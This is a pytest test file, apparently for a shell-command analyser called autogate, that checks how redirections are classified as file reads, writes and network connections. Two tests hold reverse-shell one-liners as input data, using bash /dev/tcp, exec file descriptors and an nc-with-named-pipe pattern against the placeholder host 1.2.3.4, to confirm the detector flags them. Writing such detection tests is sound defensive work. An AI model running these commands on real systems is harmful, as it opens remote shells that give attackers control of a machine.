"""Redirections."""

from __future__ import annotations

import pytest

from autogate.invocations.interface import Stdin, StdinKind
from tests.invocations.lines import effects, flows, walk


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("true > f", ["write f"]),
        ("true >> f", ["write f append"]),
        ("true >| f 2> e", ["write f", "write e"]),
        ("true &> f", ["write f"]),
        ("true &>> f", ["write f append"]),
        ("true >& f", ["write f"]),
        ("true < f", ["read f"]),
        ("true <> f", ["read f", "write f edit"]),
        ("true 2>&1 >&2 <&- 3<&0", []),
        ("true > /dev/null 2> /dev/stderr < /dev/null", []),
        ("true > $unknown", ["write …"]),
        ("true > a$unknown/b", ["write a…/b"]),
        ("true > ~/x", ["write /home/dev/x"]),
        ("> f", ["write f"]),
        ("{ true; true; } > f", ["write f"]),
        ("while true; do true; done < f > g", ["read f", "write g"]),
        ("true > /dev/tcp/h/80", ["network h:80 connect", "network h:80 upload"]),
        ("true < /dev/udp/h/53", ["network h:53 connect"]),
        ("exec 3<> /dev/tcp/h/80; true >&3", ["network h:80 connect", "network h:80 upload"]),
        ("exec > f", ["write f"]),
        ("f() { true; }; f > g", ["write g"]),
    ],
)
def test_effects(text: str, expected: list[str]) -> None:
    """What redirections read and write."""
    assert effects(walk(text)) == expected


@pytest.mark.parametrize(
    "text",
    [
        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
        "sh -i < /dev/tcp/1.2.3.4/9",
        "exec 5<>/dev/tcp/1.2.3.4/9; sh <&5 >&5 2>&5",
        "0<&196; exec 196<>/dev/tcp/1.2.3.4/9; sh <&196 >&196 2>&196",
    ],
)
def test_finds_shells_on_connections(text: str) -> None:
    """A shell whose input is a connection."""
    assert "network 1.2.3.4:9 shell" in effects(walk(text))


def test_finds_shells_on_named_pipes() -> None:
    """A shell between a named pipe and a connection that writes to the pipe."""
    line = walk("mkfifo p; cat p | sh -i 2>&1 | nc 1.2.3.4 9 > p")
    assert "network 1.2.3.4 shell" in effects(line)
    assert "3 file 1" in flows(line)


@pytest.mark.parametrize(
    ("text", "stdin"),
    [
        ("p", Stdin()),
        ("p < f", Stdin(StdinKind.FILE, "f")),
        ("p <<< 'a b'", Stdin(StdinKind.TEXT, "a b\n")),
        ("p <<E\na $USER\nE\n", Stdin(StdinKind.TEXT, "a dev\n")),
        ("p <<'E'\na $USER\nE\n", Stdin(StdinKind.TEXT, "a $USER\n")),
        ("echo a | p", Stdin(StdinKind.TEXT, "a\n")),
        ("{ echo a; echo b; } | p", Stdin(StdinKind.TEXT, "a\nb\n")),
        ("cat f | p", Stdin(StdinKind.PIPE)),
        ("echo a > f | p", Stdin(StdinKind.TEXT, "")),
        ("echo a | { p; }", Stdin(StdinKind.TEXT, "a\n")),
    ],
)
def test_standard_input(text: str, stdin: Stdin) -> None:
    """Where the standard input of the last program comes from."""
    assert walk(text).steps[-1].invocation.stdin == stdin
